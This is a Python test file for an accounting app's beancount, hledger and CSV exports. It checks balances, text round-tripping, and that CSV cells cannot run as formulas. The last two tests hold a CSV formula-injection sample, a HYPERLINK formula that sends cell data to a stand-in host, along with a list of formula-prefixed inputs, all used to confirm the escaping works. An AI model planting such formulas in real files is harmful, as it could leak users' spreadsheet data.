"""Exports: what is written down, read back by the programs it is written for. They must find our figures, exactly."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given as given_any
from hypothesis import settings
from hypothesis import strategies as st

from api.exports import beancount, hledger
from api.exports import csv as csv_export
from api.exports.content import Content, standing_accounts
from commands.imports.delimited import Delimited
from commands.sample import LIVES, household
from domain.book import Book, BookCommand, BookId, OpenBook, decide, evolve
from domain.ledger import (
    AccountId,
    Cost,
    ImportId,
    Posting,
    Price,
    TransactionId,
    TransactionRecorded,
)
from domain.money import Amount, commodity, parse_amount
from domain.prices import PriceRecorded

BRL, USD, SHARES, POINTS = (commodity("BRL", 2), commodity("USD", 2), commodity("NT.TO4", 6), commodity("JPY", 0))

NASTY_TEXTS = [
    "",
    "plain",
    'says "hi" \\ and \\n is not a line',
    "two\nlines\tand a tab",
    "; not a comment",
    "(not a code) | not a payee",
    "*",
    "! pending?",
    "=HYPERLINK(1)",
    "@@ 5 BRL",
    "  spaces  around  ",
    "ação, 日本語, العربية, emoji 🙂",
    "date:2024-01-01, x:y",
    "#tag ^link {cost} [2020-01-01]",
    "'apostrophe",
    "-12",
    "trailing backslash \\",
]


@dataclass(frozen=True, slots=True)
class Opened:
    account: AccountId
    name: str
    commodities: tuple[str, ...] = ()
    opened_on: date | None = None
    closed_on: date | None = None
    merged_into: AccountId | None = None


@dataclass(frozen=True, slots=True)
class Entry:
    transaction: TransactionId
    version: int
    date: date
    payee: str
    memo: str
    tags: tuple[str, ...]
    links: tuple[str, ...]
    postings: tuple[Posting, ...]
    import_id: ImportId | None = None
    corrects: TransactionId | None = None


@dataclass(frozen=True, slots=True)
class Rate:
    commodity: str
    date: date
    rate: Decimal
    currency: str


ACCOUNTS = [
    Opened(AccountId("checking"), "Assets:Conta corrente (BB) & cia", ("BRL",), date(2020, 1, 1)),
    Opened(AccountId("broker"), "Assets:broker; antigo  Ltda", (), None),
    Opened(AccountId("twin"), "Assets:Conta-corrente--BB----cia"),
    Opened(AccountId("gone"), "Expenses:日本", (), None, None, AccountId("food")),
    Opened(AccountId("food"), "Expenses:alimentação:2ª via", ("BRL",), date(2022, 1, 1)),
    Opened(AccountId("kanji"), "Expenses:日本"),
    Opened(AccountId("shut"), "Liabilities:Cartão", (), date(2020, 1, 1), date(2020, 12, 31)),
    Opened(AccountId("equity"), "Equity:Opening-Balances"),
]


def brl(text: str) -> Amount:
    return parse_amount(text, "BRL")


def entry(number: int, *postings: Posting, payee: str = "", memo: str = "", tags: tuple[str, ...] = ()) -> Entry:
    day = date(2024, 1, 1 + number % 28)
    return Entry(TransactionId(f"t-{number}"), number, day, payee, memo, tags, tags, postings)


def nasty_entries() -> Iterator[Entry]:
    """Every nasty text in every place, and every kind of weight."""
    for number, text in enumerate(NASTY_TEXTS):
        label = tuple(filter(None, [text.replace("\n", " ").replace("\t", " ").strip()]))
        lunch = (Posting(AccountId("food"), brl("10.01")), Posting(AccountId("checking"), brl("-10.01")))
        yield entry(number, *lunch, payee=text, memo=text, tags=label)
    shares = Amount(3_333_333, SHARES)
    bought = Posting(AccountId("broker"), shares, Cost(brl("100.00"), date(2024, 1, 3), 'lot "a"; {b}'))
    yield entry(100, bought, Posting(AccountId("checking"), brl("-100.00")), payee="Buys at cost")
    sold = Posting(AccountId("broker"), -shares, Cost(brl("-100.00")), Price(brl("-123.45")))
    gain = Posting(AccountId("kanji"), brl("-23.45"))
    yield entry(101, sold, Posting(AccountId("checking"), brl("123.45")), gain, payee="Sells with a gain")
    abroad = Posting(AccountId("gone"), Amount(-4990, USD), price=Price(brl("-271.06")))
    yield entry(102, abroad, Posting(AccountId("checking"), brl("271.06")), payee="Refund abroad, merged account")
    nothing = Posting(AccountId("broker"), Amount(0, SHARES), Cost(brl("0.00")))
    yield entry(103, nothing, Posting(AccountId("checking"), brl("0.00")), payee="Nothing for nothing")
    gift = Posting(AccountId("broker"), Amount(7, POINTS), Cost(brl("0.00")))
    yield entry(104, gift, Posting(AccountId("checking"), brl("0.00")), payee="A gift")
    odd = Posting(AccountId("broker"), Amount(7, POINTS), Cost(brl("1.00")))
    whole = Posting(AccountId("broker"), Amount(-9, POINTS), price=Price(Amount(-7, commodity("KRW", 0))))
    won = Posting(AccountId("broker"), Amount(7, commodity("KRW", 0)))
    yield entry(105, odd, Posting(AccountId("checking"), brl("-1.00")), whole, won, payee="Sevenths of a cent")


def nasty_book() -> Content:
    units = {unit.code: unit for unit in (BRL, USD, SHARES, POINTS, commodity("KRW", 0), commodity("V", 3))}
    rates = [Rate("NT.TO4", date(2024, 2, 1), Decimal("31.4159265358979"), "BRL")]
    return Content('My "book"\n; x', "BRL", 200, units, standing_accounts(ACCOUNTS), rates, list(nasty_entries()))


def sums_of(content: Content, names: dict[AccountId, str]) -> dict[tuple[str, str], Decimal]:
    sums: Counter[tuple[str, str]] = Counter()
    scales = {}
    for told in content.entries:
        for posting in told.postings:
            unit = posting.amount.commodity
            scales[unit.code] = unit.scale
            sums[names[posting.account], unit.code] += posting.amount.minor
    return {place: Decimal(minor).scaleb(-scales[place[1]]) for place, minor in sums.items() if minor}


def sample(life_index: int) -> Content:
    """A sample household as the read models would tell it, folded here from its events."""
    life = LIVES[life_index]
    numbers = iter(range(10**6))
    opening = OpenBook(BookId("b"), life.base, life.time_zone, AccountId("opening"), life.book)
    commands = [opening, *household(life, 7, date(2026, 9, 17), lambda: f"id-{next(numbers)}")]
    book = Book()
    entries: list[Entry] = []
    rates: list[Rate] = []
    for event in events_of(book, commands):
        if isinstance(event, TransactionRecorded):
            entries.append(
                Entry(
                    event.transaction,
                    len(entries),
                    event.date,
                    event.payee,
                    event.memo,
                    event.tags,
                    event.links,
                    event.postings,
                )
            )
        elif isinstance(event, PriceRecorded):
            rates.append(Rate(event.commodity, event.date, event.rate, event.currency))
    opened = [Opened(a.id, a.name, a.commodities, a.opened_on) for a in book.ledger.accounts.values()]
    units = dict(book.ledger.commodities)
    return Content(life.book, life.base, 1, units, standing_accounts(opened), rates, entries)


BOOKS: dict[str, Callable[[], Content]] = {
    "nasty": nasty_book,
    "reais": lambda: sample(0),
    "dollars": lambda: sample(1),
}


def events_of(book: Book, commands: Iterable[BookCommand]) -> Iterator[object]:
    for command in commands:
        for event in decide(book, command):
            evolve(book, event)
            yield event


def beancount_sums(text: str) -> dict[tuple[str, str], Decimal]:
    """Balances as beancount itself computes them; the file must load without a single error."""
    from beancount import loader
    from beancount.core import data

    entries, errors, _ = loader.load_string(text)
    assert not errors, [error.message for error in errors[:3]]
    sums: dict[tuple[str, str], Decimal] = {}
    for told in data.filter_txns(entries):
        for posting in told.postings:
            assert posting.units is not None
            assert posting.units.number is not None
            place = (posting.account, posting.units.currency)
            sums[place] = sums.get(place, Decimal(0)) + posting.units.number
    return {place: amount for place, amount in sums.items() if amount}


def hledger_sums(program: Path, journal: Path) -> dict[tuple[str, str], Decimal]:
    """Balances as hledger computes them, reading strictly: every account and commodity must be declared."""
    command = [str(program), "-f", str(journal), "balance", "--strict", "--flat", "--no-total", "--empty", "-O", "csv"]
    done = subprocess.run([*command, "--layout=bare"], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    rows = csv.DictReader(io.StringIO(done.stdout))
    sums = {(row["account"], row["commodity"]): Decimal(row["balance"]) for row in rows}
    return {place: amount for place, amount in sums.items() if amount}


@pytest.mark.parametrize("make", BOOKS.values(), ids=BOOKS)
def test_beancount_loads_an_export_without_an_error_and_finds_the_same_balances(make: Callable[[], Content]) -> None:
    content = make()
    text = "".join(beancount.lines(content))
    assert beancount_sums(text) == sums_of(content, beancount.account_names(content))


@pytest.mark.parametrize("make", BOOKS.values(), ids=BOOKS)
def test_hledger_reads_an_export_strictly_and_finds_the_same_balances(
    make: Callable[[], Content], tmp_path: Path, outside_program: Callable[[str], Path]
) -> None:
    content = make()
    journal = tmp_path / "book.journal"
    journal.write_text("".join(hledger.lines(content)), encoding="utf-8")
    assert hledger_sums(outside_program("hledger"), journal) == sums_of(content, hledger.account_names(content))


def test_hledger_reads_payees_notes_and_ids_as_they_were_meant(
    tmp_path: Path, outside_program: Callable[[str], Path]
) -> None:
    content = nasty_book()
    journal = tmp_path / "book.journal"
    journal.write_text("".join(hledger.lines(content)), encoding="utf-8")
    command = [str(outside_program("hledger")), "-f", str(journal), "print", "-O", "json"]
    read = json.loads(subprocess.run(command, capture_output=True, text=True, check=True).stdout)
    by_id = {dict(told["ttags"])["id"]: told for told in read}
    assert set(by_id) == {told.transaction for told in content.entries}
    assert by_id["t-5"]["tdescription"] == "(not a code) / not a payee | (not a code) | not a payee"
    assert by_id["t-6"]["tdescription"] == "* | *"
    assert {told["tstatus"] for told in read} == {"Cleared"}
    assert dict(by_id["t-11"]["ttags"]).keys() >= {"id", "link"}


def test_beancount_gives_every_text_back_unchanged() -> None:
    from beancount import loader
    from beancount.core import data

    entries, _, options = loader.load_string("".join(beancount.lines(nasty_book())))
    told = {one.meta["transaction"]: one for one in data.filter_txns(entries)}
    for number, text in enumerate(NASTY_TEXTS):
        assert (told[f"t-{number}"].payee or "", told[f"t-{number}"].narration) == (text, text)
    assert options["title"] == 'My "book"\n; x'


TEXTS = st.text(st.characters(exclude_categories=["Cs", "Cc"]) | st.sampled_from('"\\;\n'), max_size=40)


NAMES = TEXTS.map(lambda text: " ".join(text.replace(":", "").split()) or "x")


@settings(max_examples=60)
@given_any(st.lists(st.tuples(NAMES, TEXTS, TEXTS, TEXTS), min_size=1, max_size=8, unique_by=lambda texts: texts[0]))
def test_no_name_payee_memo_or_tag_makes_an_export_that_beancount_cannot_read(
    texts: list[tuple[str, str, str, str]],
) -> None:
    opened, entries = [Opened(AccountId("equity"), "Equity:Opening-Balances")], []
    for number, (name, payee, memo, tag) in enumerate(texts):
        opened.append(Opened(AccountId(f"a-{number}"), f"Assets:{name}"))
        gift = (Posting(AccountId(f"a-{number}"), brl("1.00")), Posting(AccountId("equity"), brl("-1.00")))
        entries.append(entry(number, *gift, payee=payee, memo=memo, tags=tuple(filter(None, [tag]))))
    content = Content("b", "BRL", 1, {"BRL": BRL}, standing_accounts(opened), [], entries)
    assert beancount_sums("".join(beancount.lines(content))) == sums_of(content, beancount.account_names(content))


def test_two_accounts_whose_names_come_out_alike_stay_two() -> None:
    content = nasty_book()
    for names in (beancount.account_names(content), hledger.account_names(content)):
        told = {account: name for account, name in names.items() if account != "gone"}
        assert len(set(told.values())) == len(told)
        assert names[AccountId("gone")] == names[AccountId("food")]


def test_an_account_is_open_in_an_export_as_soon_as_any_that_was_merged_into_it() -> None:
    food = standing_accounts(ACCOUNTS)[AccountId("gone")]
    assert (food.account, food.opened_on, food.commodities) == ("food", date(1900, 1, 1), ())


def test_a_csv_export_has_a_row_for_every_posting_with_exact_totals() -> None:
    content = nasty_book()
    rows = list(csv.DictReader(io.StringIO("".join(csv_export.lines(content)), newline="")))
    assert len(rows) == sum(len(told.postings) for told in content.entries)
    sold = next(row for row in rows if row["payee"] == "Sells with a gain")
    wanted = {"amount": "-3.333333", "commodity": "NT.TO4", "cost": "-100.00", "price": "-123.45"}
    assert {name: sold[name] for name in wanted} == wanted
    assert {row["account"] for row in rows} <= {account.name for account in content.standing}


def test_no_cell_of_a_csv_export_is_run_as_a_formula() -> None:
    for text in ("=1+1", "+1+1", "-1+1", "@sum(a1)", "\t=1", "\r=1", "-", "+"):
        assert csv_export.guarded(text) == "'" + text
    for text in ("-12.50", "+3", "12", "plain", "a=b", ""):
        assert csv_export.guarded(text) == text


def test_a_formula_that_a_bank_file_brings_leaves_the_csv_export_as_a_text() -> None:
    formula = '=HYPERLINK("http://example.org/?"&A1,"Click")'
    file = io.StringIO()
    csv.writer(file).writerows([["Date", "Payee", "Memo", "Amount"], ["2026-09-13", formula, "@SUM(A1)", "-1.00"]])
    (read,) = Delimited().read(file.getvalue().encode()).statements[0].rows
    assert (read.payee, read.memo) == (formula, "@SUM(A1)")
    bought = Posting(AccountId("food"), brl("1.00")), Posting(AccountId("checking"), brl("-1.00"))
    told = entry(1, *bought, payee=read.payee, memo=read.memo)
    content = Content("b", "BRL", 1, {"BRL": BRL}, standing_accounts(ACCOUNTS), [], [told])
    rows = list(csv.DictReader(io.StringIO("".join(csv_export.lines(content)), newline="")))
    assert {(row["payee"], row["memo"]) for row in rows} == {("'" + formula, "'@SUM(A1)")}
    assert [row["amount"] for row in rows] == ["1.00", "-1.00"]
